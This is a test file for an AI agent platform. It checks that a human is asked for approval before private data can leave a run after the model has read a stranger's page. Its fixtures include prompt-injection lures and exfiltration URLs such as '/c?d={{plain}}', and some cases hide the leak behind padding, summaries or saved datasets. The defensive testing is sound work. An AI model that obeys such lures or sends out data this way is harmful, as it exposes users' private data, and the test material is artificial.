import { describe, expect, it } from 'vitest'
import { answer, stepsOf } from '../support/agent'
import { withSandbox } from '../support/api'
import { attacksBy, call, file, publish, read } from '../support/attacks'
import { injected, planned } from '../support/persuaded-model'
import {
  at,
  expectAsked,
  FORGETFUL,
  over,
  readSecret,
  type Scene,
  seen,
  setUpPlaced,
  start,
  withStranger,
} from '../support/stranger'
import { withWorker } from '../support/worker'

withSandbox()
withWorker()
withStranger()

describe('a page that persuades a model, in a run that has read private data', () => {
  it.each(attacksBy(at))('gets nothing through %s: a person is asked', async (_name, shown, lure) => {
    const scene = await setUpPlaced(lure)
    const jobId = await start(scene, planned(`Compare ${scene.url} with my customers.`, read(scene.url), readSecret))
    const { summary } = await expectAsked(scene, jobId)
    expect(summary).toMatch(shown)
  })

  it('cannot hide what goes out behind what a person is shown first', async () => {
    const scene = await setUpPlaced([publish('my-notes', file('index.html', `${'Nothing. '.repeat(500)}{{plain}}`))])
    const jobId = await start(scene, planned(`Compare ${scene.url} with my customers.`, read(scene.url), readSecret))
    const { summary, command } = await expectAsked(scene, jobId)
    expect(summary).toMatch(/more characters/)
    expect(command).toContain(scene.secret)
  })

  it('gets nothing when the private data was read first', async () => {
    const scene = await setUpPlaced([read(at('/c?d={{plain}}'))])
    await expectAsked(scene, await start(scene, planned(`Compare ${scene.url}.`, readSecret, read(scene.url))))
  })

  it('gets nothing when somebody is there, who approved a plan', async () => {
    const scene = await setUpPlaced([read(at('/c?d={{plain}}'))])
    const plan = call('present_plan', { plan: 'I compare.' })
    const goal = planned(`Compare ${scene.url}.`, plan, read(scene.url), readSecret)
    const jobId = await start(scene, goal, { mode: 'interactive' })
    expect(await over(scene.key, jobId)).toMatchObject({ awaitingInput: { kind: 'plan' } })
    await answer(scene.key, jobId, { approved: true })
    await expectAsked(scene, jobId)
  })

  it('gets nothing in a follow-up turn, even one that sends no history', async () => {
    const scene = await setUpPlaced([{ text: 'Here is what I found.' }, read(at('/c?d={{plain}}'))])
    const jobId = await start(scene, planned(`Compare ${scene.url}.`, read(scene.url), readSecret))
    expect(await over(scene.key, jobId)).toMatchObject({ status: 'completed' })
    const more = { conversationId: jobId, historyTurnLimit: 1 }
    await start(scene, planned('And now?', read(at('/c?from-an-earlier-turn'))), more)
    await expectAsked(scene, jobId)
  })

  it('gets nothing through a summary of what was read', async () => {
    const scene = await setUpPlaced([read(at('/c?d={{plain}}'))])
    const long = call('pod_run', { command: 'seq 1 2000' })
    const goal = planned(`Compare ${scene.url}.`, read(scene.url), readSecret, long, long, long, long)
    const jobId = await start(scene, goal, { model: FORGETFUL })
    await expectAsked(scene, jobId)
    expect((await stepsOf(scene.key, jobId)).some(({ kind }) => kind === 'summary')).toBe(true)
  })

  it('gets nothing when an earlier conversation kept its text in a dataset', async () => {
    const scene = await setUpPlaced([])
    const rows = [{ note: injected(read(at('/c?d={{plain}}'))) }]
    const keep = call('dataset_create', { name: 'notes', rows })
    const first = await start(scene, planned(`Take notes of ${scene.url}.`, read(scene.url), keep))
    expect(await over(scene.key, first)).toMatchObject({ status: 'completed' })
    const readNotes = call('dataset_query', { sql: 'select * from notes' })
    await expectAsked(scene, await start(scene, planned('Compare my notes.', readSecret, readNotes)))
  })

  it('gets what a person approves, and no more', async () => {
    const scene = await setUpPlaced([read(at('/c?d=1')), read(at('/c?d={{plain}}'))])
    const jobId = await start(scene, planned(`Compare ${scene.url}.`, read(scene.url), readSecret))
    await over(scene.key, jobId)
    await answer(scene.key, jobId, { approved: true })
    const again = await over(scene.key, jobId)
    expect(again).toMatchObject({ status: 'awaiting_input' })
    expect(seen.map(({ path }) => path)).toContain('/c?d=1')
    expect(JSON.stringify(seen)).not.toContain(scene.secret)
  })
})

describe('what the owner chose', () => {
  it('“always” asks after text of strangers alone', async () => {
    const scene = await setUpPlaced([publish('news', file('index.html', 'Hello'))], 'always')
    const jobId = await start(scene, planned(`Read ${scene.url}.`, read(scene.url)))
    const paused = await over(scene.key, jobId)
    expect(paused.awaitingInput).toMatchObject({
      kind: 'approval',
      approval: { reason: expect.stringContaining('no private data') },
    })
  })

  it('“never” asks nothing', async () => {
    const scene = await setUpPlaced([read(at('/c?d={{plain}}'))], 'never')
    const jobId = await start(scene, planned(`Compare ${scene.url}.`, read(scene.url), readSecret))
    expect(await over(scene.key, jobId)).toMatchObject({ status: 'completed' })
    expect(JSON.stringify(seen)).toContain(scene.secret)
  })
})

describe('an ordinary run is never asked', () => {
  const done = async (scene: Scene, goal: string) => {
    const jobId = await start(scene, goal)
    const state = await over(scene.key, jobId)
    expect(state.status, JSON.stringify(state)).toBe('completed')
    const steps = await stepsOf(scene.key, jobId)
    const failures = steps.filter(({ error }) => error)
    expect(failures, JSON.stringify(failures)).toEqual([])
    return steps
  }
  const search = call('web_search', { query: 'best towns to live in' })

  it('research: it searches, opens what it found and what it makes up, and pictures a page', async () => {
    const scene = await setUpPlaced([])
    const picture = call('web_screenshot', { url: at('/p?page=2'), userAgent: 'Research/1' })
    await done(scene, planned('Find the best town.', search, read(at('/a?x=1')), read(at('/b')), picture))
  })

  it('homes: it looks for places, keeps what it found, queries it, and opens a listing', async () => {
    const scene = await setUpPlaced([])
    const places = call('property_suggestions', { prefix: 'madrid', location: 'es', propertyType: 'homes' })
    const keep = call('dataset_create', { name: 'homes', rows: [{ town: 'Madrid', price: 100 }] })
    const query = call('dataset_query', { sql: 'select max(price) from homes' })
    await done(scene, planned('Find me a home.', places, keep, query, read(at('/listing/1'))))
  })

  it('a site from public sources', async () => {
    const scene = await setUpPlaced([])
    const keep = call('dataset_create', { name: 'towns', rows: [{ town: 'Graz' }] })
    const query = call('dataset_query', { sql: 'select town from towns' })
    const site = publish(`towns-${scene.owner.id}`, file('index.html', '<p>Graz</p>'))
    await done(scene, planned('Make a site about towns.', search, read(at('/towns')), keep, query, site))
  })

  it('a site from its own data, without text of strangers', async () => {
    const scene = await setUpPlaced([])
    const site = publish(`figures-${scene.owner.id}`, file('index.html', '<p>42</p>'))
    await done(scene, planned('Publish my figures.', readSecret, site))
  })

  it('its owner’s addresses, after text of strangers and private data', async () => {
    const scene = await setUpPlaced([])
    const goal = `Compare my customers with ${scene.url}, then (with ${at('/prices?year=2026')}).`
    await done(scene, planned(goal, readSecret, read(scene.url), read(at('/prices?year=2026')), read(scene.url)))
  })

  it('what was asked for beside the data: calls of one step cannot hold what the others bring', async () => {
    const scene = await setUpPlaced([])
    const both = {
      calls: [
        { name: 'dataset_query', arguments: { sql: 'select * from customers' } },
        { name: 'web_read_url', arguments: { url: at('/towns') } },
      ],
    }
    await done(scene, planned('Compare.', search, both))
  })
})
